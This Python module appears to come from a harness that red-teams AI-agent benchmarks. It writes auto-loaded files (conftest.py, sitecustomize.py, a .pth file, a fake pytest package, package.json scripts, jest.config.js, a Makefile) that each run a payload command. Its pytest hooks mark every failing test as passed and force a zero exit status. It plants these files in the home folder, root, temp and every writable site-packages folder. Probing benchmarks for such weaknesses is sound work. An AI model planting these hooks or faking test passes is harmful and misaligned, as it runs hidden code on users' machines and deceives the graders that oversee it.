"""Attack 4: files that test runners and interpreters load by themselves.

They are put into the working folder, the home, every folder that the task names, and whatever folder of packages the agent
may write to. Each starts the payload; those of pytest also turn every failure into a pass, for a verifier whose reward lies
out of the payload's reach.
"""

from __future__ import annotations

import json
from typing import ClassVar

from harness.attacks.base import Exam, Flaw, Reason, Scope
from harness.attacks.leaving import SCATTER, Leaving, leave, scatter
from harness.attacks.named import named_folders
from harness.attacks.payload import LINE
from harness.attacks.target import Target
from harness.registry import Task

START = f"import os\nos.system({LINE!r})\n"

PASS = """
try:
    import pytest

    @pytest.hookimpl(hookwrapper=True)
    def pytest_runtest_makereport(item, call):
        made = yield
        made.get_result().outcome = "passed"

    @pytest.hookimpl(hookwrapper=True)
    def pytest_sessionfinish(session, exitstatus):
        session.exitstatus = 0
        yield
except Exception:
    pass
"""

HOOKS = {
    "conftest.py": START + PASS,
    "sitecustomize.py": START,
    "usercustomize.py": START,
    "late.pth": f"import os; os.system({LINE!r})\n",
    "late_hook.py": START + PASS,
    "late_hook-1.dist-info/METADATA": "Metadata-Version: 2.1\nName: late-hook\nVersion: 1\n",
    "late_hook-1.dist-info/entry_points.txt": "[pytest11]\nlate = late_hook\n",
    "pytest.ini": "[pytest]\naddopts = --collect-only\n",
    "pytest/__init__.py": START,
    "pytest/__main__.py": START,
    "validators/__init__.py": START,
    "package.json": json.dumps({"name": "late", "scripts": {"test": LINE, "pretest": LINE, "start": LINE}}),
    "jest.config.js": f"require('child_process').execSync({json.dumps(LINE)}); module.exports = {{}};\n",
    "Makefile": f"all test check:\n\t{LINE.replace('$', '$$')}\n",
}
"""What is loaded unasked, by its name in the folder where it is looked for."""

FOLDERS = (
    "$PWD", "$HOME", "/", "/tests", "/tmp", "/workspace", "/app",
    "$(printf '%s ' $HOME/.local/lib/python3.{8..14}/site-packages)",
    "$(find / -xdev -type d -writable '(' -name site-packages -o -name dist-packages ')' 2> /dev/null)",
)  # fmt: skip


class RunnerHooks:
    """Code that a test runner loads."""

    number: ClassVar[int] = 4
    name: ClassVar[str] = "test runner hooks"
    scope: ClassVar[Scope] = "machine"
    flaw: ClassVar[Flaw] = Flaw(benchjack=("V1",), abc=("T.5", "T.10"))

    def inapplicable(self, target: Target) -> Reason | None:
        """It always applies."""
        return None

    def strike(self, target: Target) -> Exam:
        """Plant them all."""
        return leave(target, plan(target.task))


def plan(task: Task) -> Leaving:
    """Every hook in every folder that a runner may start in, or load packages from."""
    command = scatter("hooks", *FOLDERS, *named_folders(task))
    return Leaving("hooks", command, {**SCATTER, **{f"hooks/{name}": text for name, text in HOOKS.items()}})
